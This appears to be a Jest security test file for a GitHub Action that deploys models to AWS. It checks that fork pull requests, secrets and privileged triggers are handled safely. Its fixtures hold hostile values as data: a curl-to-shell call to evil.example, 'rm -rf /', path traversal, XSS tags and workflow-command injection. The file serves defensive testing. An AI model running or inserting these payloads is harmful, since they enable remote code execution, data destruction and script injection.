// The security pass, through the built action as the runner runs it (docs/security.md):
//   1. a fork's pull request with hostile manifest values is planned without a single AWS call,
//      and nothing it wrote reaches the comment or summary as HTML, a live @mention or a workflow
//      command;
//   2. apply (and bootstrap) refuse pull request events and a fork's workflow_run before reading
//      anything;
//   3. the generated API key and the GitHub token appear in no output but `::add-mask::`, even when
//      an endpoint answers with the key in its error;
//   4. what the action sends to the pipeline (request object, variables) is a validated spec and
//      values derived from it, nothing from the event;
//   5. no workflow runs on a trigger that hands a fork's code a privileged token.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readdirSync, readFileSync } from 'node:fs';
import { parse } from 'yaml';
import { loadManifest } from '../../src/core/manifest/load.js';
import { NAME_PATTERN } from '../../src/core/manifest/schema.js';
import { specHash } from '../../src/core/spec-hash.js';
import { PIPELINE_VARIABLES } from '../../src/aws/pipeline-contract.js';
import type { DeploymentSpec } from '../../src/core/types.js';
import { launchRequest } from '../../src/core/launch.js';
import type { RunnerEvent, RunResult } from './runner.js';
import { API_KEY, MODEL, REGION, TOKEN, mergePush, mutations, prEvent, startFleet, type Fleet } from './fleet.js';

const sha = (c: string) => c.repeat(40);
const INPUTS = { mode: 'auto', manifest: 'models.yaml', 'github-token': TOKEN, 'stack-prefix': 'emd' };
const COMMENT_TAGS = new Set(['details', 'summary', 'sub', 'b', 'code']);

/** HTML elements in rendered text other than the few the renderer writes itself. */
function foreignHtml(text: string): string[] {
  return [...text.matchAll(/<\/?([A-Za-z][\w-]*)/g)].map((m) => m[0]).filter((t) => !COMMENT_TAGS.has(t.replace(/^<\/?/, '').toLowerCase()));
}

/** `@name` that GitHub would turn into a notification (the renderer breaks them with U+200B). */
function liveMentions(text: string): string[] {
  return [...text.matchAll(/(?:^|[^\w`])@([A-Za-z0-9][\w-]*(?:\/[\w-]+)?)/g)].map((m) => `@${m[1]}`);
}

/** Lines the runner would take as workflow commands, apart from the action's own. */
function injectedCommands(stdout: string): string[] {
  return stdout.split('\n').filter((l) => /^::/.test(l) && !/^::(error|warning|notice)( [^:]*)?::|^::(group|endgroup|debug|add-mask)::/.test(l));
}

// Everything a fork can write: the manifest, and the pull request's title, body and branch name.
const HOSTILE_MANIFEST = `version: 1
defaults: { region: ${REGION}, service: ecs, instance: g5.xlarge }
models:
  pwn:
    model: "Qwen/x$(curl -s evil.example|sh)"
    revision: "main\`id\`;reboot"
    engine_args:
      max-model-len: "8192;rm -rf /"
      quantization: "awq\\n::error::INJECTED"
      "--trust-remote-code": true
      tool-call-parser: "\${AWS::AccountId}"
    tags: { team: "<img src=x onerror=alert(1)> @acme/admins", "!Ref": "x" }
  "<script>alert(1)</script>":
    model: "<b>@mallory</b>"
  "@mallory":
    model: "Qwen/Qwen2.5-0.5B-Instruct\\n::add-mask::INJECTED"
  ok:
    model: ${MODEL}
    hf_token_secret: "x; aws iam create-user"
    api_key: { secret: "$(id)" }
    schedule: { up: "0 8 * * 1-5; reboot", down: "0 19 * * *", timezone: "../../etc/passwd" }
`;

// Values the validator accepts although they look like shell or template syntax: they travel as
// data (jq --arg, single words, literal parameter values), never as code. Tags may hold @.
const ODD_BUT_VALID = `version: 1
defaults: { region: ${REGION}, service: ecs, instance: g5.xlarge }
models:
  odd:
    model: ${MODEL}
    revision: refs/pr/1
    engine_args: { quantization: "$(id)", tool-call-parser: "a;b\`c\`|\${AWS::Region}" }
    tags: { owner: "@acme/admins", note: "Fn::GetAtt Secret.Arn" }
`;

const HOSTILE_PR = { title: '<img src=x onerror=alert(1)> @acme/admins $(id)', body: '<script>x</script> @octocat', headRef: '$(curl${IFS}evil)' };

describe('security of dist/index.js', () => {
  let f: Fleet;
  let echo: Server;
  let echoUrl = '';

  beforeAll(async () => {
    // An endpoint that refuses every key and quotes it back in its error, as some APIs do.
    echo = createServer((req, res) => {
      const key = String(req.headers.authorization ?? '').replace(/^Bearer /, '');
      req.resume();
      res.writeHead(401, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ error: { message: `Incorrect API key provided: ${key}`, type: 'invalid_request_error', code: 'invalid_api_key' } }));
    });
    await new Promise<void>((r) => echo.listen(0, '127.0.0.1', r));
    echoUrl = `http://127.0.0.1:${(echo.address() as AddressInfo).port}/v1`;
    f = await startFleet({ baseUrl: (name) => (name === 'leaky' ? echoUrl : undefined) });
    f.pipes.seedBootstrap(REGION);
  });
  afterAll(async () => {
    await f?.close();
    echo?.closeAllConnections();
    await new Promise<void>((r) => (echo ? echo.close(() => r()) : r()));
  });

  const commentsOn = (pr: number) => f.gh.commentsOn('acme', 'models', pr);

  describe('1. a fork’s pull request', () => {
    it('with hostile values: rejected field by field, with no AWS call, and no HTML, mention or command in what it renders', async () => {
      const calls = f.aws.log.length;
      const run = await f.run(prEvent(21, sha('1'), { fork: true, ...HOSTILE_PR }), INPUTS, HOSTILE_MANIFEST);
      expect(run.code).toBe(1);
      expect(f.aws.log.length).toBe(calls);

      // Every hostile field is an error of its own, at its line.
      const errors = run.stdout.split('\n').filter((l) => l.startsWith('::error title='));
      for (const field of ['models.pwn.model', 'models.pwn.revision', 'models.pwn.engine_args.max-model-len', 'models.pwn.engine_args.quantization', 'models.pwn.engine_args.--trust-remote-code', 'models.pwn.tags.team', 'models.pwn.tags.!Ref', 'models.ok.hf_token_secret', 'models.ok.api_key', 'models.ok.schedule.up', 'models.ok.schedule.timezone']) {
        expect(errors.some((l) => l.startsWith(`::error title=emd-action%3A ${field},file=models.yaml,line=`))).toBe(true);
      }
      expect(errors.filter((l) => /name "<script>|name "@mallory/.test(l))).toHaveLength(2);
      // engine_args.tool-call-parser "${AWS::AccountId}" is a single word: data, accepted.
      expect(errors.some((l) => l.includes('tool-call-parser'))).toBe(false);

      expect(injectedCommands(run.stdout)).toEqual([]);
      expect(run.stdout).not.toMatch(/^::(error|add-mask)::INJECTED/m);
      const comment = commentsOn(21)[0].body;
      for (const text of [comment, run.summary]) {
        expect(text).toContain('The manifest is invalid');
        expect(foreignHtml(text)).toEqual([]);
        expect(liveMentions(text)).toEqual([]);
        // One line per finding: a value's line breaks cannot start markdown of their own.
        const findings = text.slice(text.indexOf('nothing was planned.') + 20, text.indexOf('<sub>')).trim().split('\n');
        expect(findings.filter((l) => !/^- ❌ `models\.yaml:\d+:\d+` /.test(l))).toEqual([]);
        expect(findings).toHaveLength(15);
      }
      expect(comment).toContain('&lt;script&gt;');
      expect(`${run.stdout}${run.summary}${comment}${JSON.stringify(run.outputs)}`).not.toContain(HOSTILE_PR.headRef);
      expect(`${run.stdout}${run.summary}${comment}`).not.toContain('onerror=alert(1)> @acme');
    }, 30_000);

    it('with odd but valid values: planned offline, with no AWS call; the comment carries no HTML or live mention', async () => {
      const calls = f.aws.log.length;
      const run = await f.run(prEvent(22, sha('2'), { fork: true, ...HOSTILE_PR }), INPUTS, ODD_BUT_VALID);
      expect(run.code).toBe(0);
      expect(f.aws.log.length).toBe(calls);
      // Compared with the base branch (which has no manifest here): the plan says so.
      expect(run.summary).toContain('Live stacks not read (this pull request comes from a fork');
      const comment = commentsOn(22).map((c) => c.body).join('\n');
      for (const text of [comment, run.summary]) {
        expect(foreignHtml(text)).toEqual([]);
        expect(liveMentions(text)).toEqual([]);
      }
      expect(injectedCommands(run.stdout)).toEqual([]);
      for (const v of Object.values(HOSTILE_PR)) expect(`${run.stdout}${run.summary}${comment}${JSON.stringify(run.outputs)}`).not.toContain(v);
    }, 30_000);
  });

  describe('2. modes that change AWS refuse untrusted events before reading anything', () => {
    const workflowRun = (fork: boolean): RunnerEvent => ({
      name: 'workflow_run',
      ref: 'refs/heads/main',
      sha: sha('3'),
      payload: {
        action: 'completed',
        workflow_run: { event: 'pull_request', head_sha: sha('3'), head_branch: 'x', head_repository: { full_name: fork ? 'mallory/models' : 'acme/models' } },
        repository: { full_name: 'acme/models', name: 'models', owner: { login: 'acme' }, default_branch: 'main' }
      }
    });
    const cases: [string, RunnerEvent, string, RegExp][] = [
      ['apply on a pull request', prEvent(30, sha('3')), 'apply', /mode: apply does not run on pull_request events/],
      ['apply on a fork’s pull request', prEvent(31, sha('3'), { fork: true }), 'apply', /mode: apply does not run on pull_request events/],
      ['apply on pull_request_target from a fork', { ...prEvent(32, sha('3'), { fork: true }), name: 'pull_request_target' }, 'apply', /mode: apply does not run on pull_request_target events/],
      ['apply on a fork’s workflow_run', workflowRun(true), 'apply', /mode: apply does not run for a workflow run of mallory\/models, a fork/],
      ['bootstrap on a pull request', prEvent(33, sha('3')), 'bootstrap', /bootstrap does not run on pull request events/],
      // Teardown brings deployments up through the pipeline: from a pull request's manifest that
      // would deploy what nobody reviewed.
      ['teardown on a pull request', prEvent(34, sha('3')), 'teardown', /mode: teardown does not run on pull_request events/],
      ['teardown on a fork’s workflow_run', workflowRun(true), 'teardown', /mode: teardown does not run for a workflow run of mallory\/models, a fork/]
    ];
    it.each(cases)('%s', async (_what, event, mode, refusal) => {
      const calls = f.aws.log.length;
      const run = await f.run(event, { ...INPUTS, mode }, ODD_BUT_VALID);
      expect(run.code).toBe(1);
      expect(run.stdout).toMatch(new RegExp(`^::error::${refusal.source}`, 'm'));
      expect(f.aws.log.length).toBe(calls);
      expect(f.gh.requests.filter((r) => r.method !== 'GET' && r.path.includes(`/issues/${event.payload.number ?? 0}/`))).toEqual([]);
    }, 30_000);
  });

  it('2. a teardown dry run on a pull request only reads', async () => {
    const run = await f.run(prEvent(35, sha('3')), { ...INPUTS, mode: 'teardown', 'dry-run': 'true' }, ODD_BUT_VALID);
    expect(run.code).toBe(0);
    expect(run.calls.length).toBeGreaterThan(0);
    expect(mutations(run.calls)).toEqual([]);
  }, 30_000);

  describe('3–4. a full apply', () => {
    const MANIFEST = `version: 1
defaults: { region: ${REGION}, service: ecs, instance: g5.xlarge }
models:
  alpha:
    model: ${MODEL}
    engine_args: { quantization: "$(id)", max-model-len: 4096 }
    tags: { owner: "@acme/admins" }
  leaky:
    model: ${MODEL}
    service: ec2
`;
    let run: RunResult & { calls: { key: string }[] };

    beforeAll(async () => {
      f.gh.addPullRequest({ owner: 'acme', repo: 'models', number: 40, headSha: sha('4'), state: 'closed', mergedAt: new Date().toISOString(), mergeCommitSha: sha('5') });
      const event = mergePush(sha('5'), { message: `Merge ${HOSTILE_PR.title}` });
      run = await f.run({ ...event, payload: { ...event.payload, pusher: { name: '$(id)' } } }, INPUTS, MANIFEST);
    }, 45_000);

    it('deploys both, and reports the endpoint that refused the key without quoting it', () => {
      expect(run.code).toBe(0);
      const endpoints = JSON.parse(run.outputs.endpoints) as { name: string; result: string }[];
      expect(endpoints.map((e) => [e.name, e.result]).sort()).toEqual([
        ['alpha', 'succeeded'],
        ['leaky', 'succeeded']
      ]);
      expect(run.summary).toMatch(/\| `leaky` \| ✅ created · ⚠️ smoke test 401 \|/);
      expect(run.stdout).toContain('::warning::leaky: deployed, but the smoke test failed: the endpoint refused the API key (401): 401 Incorrect API key provided: ***');
    });

    it('shows the generated key and the token nowhere but in ::add-mask:: lines', () => {
      const comments = commentsOn(40).map((c) => c.body);
      expect(comments).toHaveLength(1);
      const seen = { stdout: run.stdout, stderr: run.stderr, summary: run.summary, outputs: JSON.stringify(run.outputs), comments: comments.join('\n') };
      for (const secret of [API_KEY, TOKEN]) {
        for (const [where, text] of Object.entries(seen)) {
          const lines = text.split('\n').filter((l) => l.includes(secret) || l.includes(secret.slice(4, 24)));
          expect({ where, lines: lines.filter((l) => l !== `::add-mask::${secret}`) }).toEqual({ where, lines: [] });
        }
      }
      // Masked before the smoke tests used it, and the token before anything else.
      expect(run.stdout.split('\n')[0]).toBe(`::add-mask::${TOKEN}`);
      const firstKeyUse = run.stdout.indexOf('smoke test passed');
      expect(run.stdout.indexOf(`::add-mask::${API_KEY}`)).toBeGreaterThan(-1);
      expect(run.stdout.indexOf(`::add-mask::${API_KEY}`)).toBeLessThan(firstKeyUse);
      // Nor did it go to AWS or to GitHub in a body.
      for (const secret of [API_KEY, TOKEN]) {
        expect(JSON.stringify(f.aws.log.map((c) => c.input))).not.toContain(secret);
        for (const o of f.objects().keys()) expect(readObject(o)).not.toContain(secret);
        expect(JSON.stringify(f.gh.requests.map((r) => r.body ?? null))).not.toContain(secret);
      }
    });

    it('sends the pipeline only validated specs and values derived from them', () => {
      const executions = f.pipes.executions(REGION).filter((e) => e.variables.COMMIT === sha('5'));
      expect(executions.map((e) => e.variables.DEPLOYMENT).sort()).toEqual(['alpha', 'leaky']);
      for (const e of executions) {
        const v = e.variables;
        expect(Object.keys(v).sort()).toEqual([...PIPELINE_VARIABLES].sort());
        expect(v.DEPLOYMENT).toMatch(NAME_PATTERN);
        expect(v.STACK_NAME).toBe(`emd-${v.DEPLOYMENT}`);
        expect(v.SERVICE).toMatch(/^(sagemaker|ecs|ec2)$/);
        expect(v.REQUEST_KEY).toMatch(new RegExp(`^requests/${v.DEPLOYMENT}/[0-9a-f]{16}\\.json$`));
        expect(v.COMMIT).toMatch(/^[0-9a-f]{40}$/);

        // The request the build read is exactly what was written, and its spec passes the validator
        // again unchanged: nothing reached the pipeline that the manifest rules did not allow.
        const request = JSON.parse(readObject(`s3://emd-artifacts-123456789012-${REGION}/${v.REQUEST_KEY}`)) as { spec: DeploymentSpec } & Record<string, string>;
        expect(request).toEqual({ ...e.request, requested_at: request.requested_at });
        expect(Object.keys(request).sort()).toEqual(['commit', 'launch', 'manifest', 'requested_at', 'spec', 'spec_hash', 'stack_name', 'stack_prefix']);
        // The engine flags are derived from the validated spec only (core/launch.ts).
        expect(request.launch).toEqual(launchRequest(request.spec));
        const { name, ...entry } = request.spec;
        const again = loadManifest(JSON.stringify({ version: 1, models: { [name]: entry } }), { path: 'models.yaml', stackPrefix: 'emd' });
        expect(again.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
        expect(again.specs).toEqual([request.spec]);
        expect(request.spec_hash).toBe(specHash(request.spec));
        expect(v.REQUEST_KEY).toBe(`requests/${name}/${request.spec_hash}.json`);
        expect(request).toMatchObject({ stack_name: v.STACK_NAME, stack_prefix: 'emd', manifest: 'models.yaml', commit: sha('5') });
        expect(request.requested_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
        // Nothing from the event (commit message, pusher) travels with it.
        const sent = JSON.stringify({ request, v });
        expect(sent).not.toContain('Merge ');
        expect(sent).not.toContain('<img');
      }
    });

    it('made only the calls an apply may make', () => {
      // Two deployment requests and the record of regions deployed to.
      expect(mutations(run.calls as never).sort()).toEqual(['codepipeline:StartPipelineExecution', 'codepipeline:StartPipelineExecution', 's3:PutObject', 's3:PutObject', 's3:PutObject']);
    });
  });

  describe('5. workflows', () => {
    const files = [
      ...readdirSync('.github/workflows').map((n) => `.github/workflows/${n}`),
      ...readdirSync('examples/workflows').map((n) => `examples/workflows/${n}`)
    ].filter((n) => /\.ya?ml$/.test(n));

    it('none runs on pull_request_target or workflow_run, which hand a fork’s change a privileged token and secrets', () => {
      const privileged = files.filter((file) => {
        const on = (parse(readFileSync(file, 'utf8')) as { on?: unknown }).on;
        const triggers = typeof on === 'string' ? [on] : Array.isArray(on) ? on : Object.keys(on ?? {});
        return triggers.some((t) => t === 'pull_request_target' || t === 'workflow_run');
      });
      expect(files.length).toBeGreaterThanOrEqual(5);
      expect(privileged).toEqual([]);
    });
  });

  function readObject(uri: string): string {
    const m = /^s3:\/\/([^/]+)\/(.+)$/.exec(uri)!;
    return f.aws.store.buckets.get(m[1])!.objects.get(m[2])!.body.toString('utf8');
  }
});
